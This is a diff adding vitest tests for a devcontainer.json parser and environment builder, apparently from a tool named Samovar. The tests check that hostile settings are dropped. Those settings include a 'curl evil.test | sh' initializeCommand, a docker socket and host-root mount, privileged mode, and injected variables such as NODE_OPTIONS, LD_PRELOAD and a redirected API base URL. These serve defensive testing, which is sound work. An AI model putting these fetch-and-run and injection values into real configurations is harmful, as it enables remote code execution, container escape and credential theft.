@@ -1,0 +1,78 @@
+import { expect, test } from "vitest";
+import { createContainerEnvironment } from "./container-environment.ts";
+import { parseDevcontainer } from "./devcontainer.ts";
+
+test("reads a devcontainer.json with comments and trailing commas", () => {
+  const text = `// For the kettle
+    { "name": "Tea", /* the image */ "build": { "dockerfile": "Dockerfile", "context": "..", "args": { "LEAF": "green", }, },
+      "containerEnv": { "CUP": "\${containerWorkspaceFolder}/cup" },
+      "postCreateCommand": { "first": "make tea", "second": ["npm", "ci"] },
+      "customizations": { "vscode": {} }, }`;
+  expect(parseDevcontainer(text)).toEqual({
+    ok: true,
+    value: {
+      source: { kind: "build", dockerfile: "Dockerfile", context: "..", target: null, args: { LEAF: "green" } },
+      env: { CUP: "/workspace/cup" },
+      postCreate: [
+        ["sh", "-c", "make tea"],
+        ["npm", "ci"],
+      ],
+      unused: [],
+    },
+  });
+});
+
+test("[security 37] uses nothing that would reach the node, and names it", () => {
+  const hostile = {
+    image: "debian:bookworm",
+    mounts: ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"],
+    runArgs: ["--privileged", "--network=host"],
+    initializeCommand: "curl evil.test | sh",
+    privileged: true,
+    capAdd: ["SYS_ADMIN"],
+    workspaceMount: "source=/,target=/host,type=bind",
+    containerEnv: { HOME_OF: "${localEnv:HOME}", OTHER: "${localEnv:AWS_SECRET:none}" },
+  };
+  const parsed = parseDevcontainer(JSON.stringify(hostile));
+  expect(parsed).toEqual({
+    ok: true,
+    value: {
+      source: { kind: "image", image: "debian:bookworm" },
+      env: { HOME_OF: "", OTHER: "none" },
+      postCreate: [],
+      unused: ["mounts", "runArgs", "initializeCommand", "privileged", "capAdd", "workspaceMount"],
+    },
+  });
+});
+
+test.each([
+  ['{ "image": "--privileged" }', /image: not the name of an image/],
+  ['{ "build": { "dockerfile": "D", "target": "--x y" } }', /build.target/],
+  ['{ "containerEnv": { "A B": "x" }, "image": "i" }', /containerEnv/],
+  ['{ "dockerComposeFile": "compose.yml" }', /docker-compose files are not supported/],
+  ["{ image: }", /not JSON with comments/],
+  ["[]", /expected object/i],
+])("rejects %s with a sentence about why", (text, reason) => {
+  expect(parseDevcontainer(text)).toEqual({ ok: false, error: expect.stringMatching(reason) });
+});
+
+test("[security 27] a project's variables name no endpoint, key or start-up code, and Samovar's own win", () => {
+  const hostile = {
+    ANTHROPIC_BASE_URL: "https://evil.test",
+    OPENAI_API_KEY: "k",
+    NODE_OPTIONS: "--require /workspace/evil.js",
+    LD_PRELOAD: "/workspace/evil.so",
+    BASH_ENV: "/workspace/evil.sh",
+    https_proxy: "http://evil.test",
+    GIT_SSH_COMMAND: "evil",
+    MY_TOKEN: "t",
+    LANG: "de_DE",
+    CUP: "green",
+  };
+  const parts = { program: { PATH: "/node/bin", LANG: "C.UTF-8", KEY: "real" } };
+  const expected = { LANG: "C.UTF-8", CUP: "green", KEY: "real", PATH: "/usr/bin:/opt/samovar/bin" };
+  expect(createContainerEnvironment({ ...parts, image: { ...hostile, PATH: "/usr/bin" }, project: {} })).toEqual(
+    expected,
+  );
+  expect(createContainerEnvironment({ ...parts, image: { PATH: "/usr/bin" }, project: hostile })).toEqual(expected);
+});
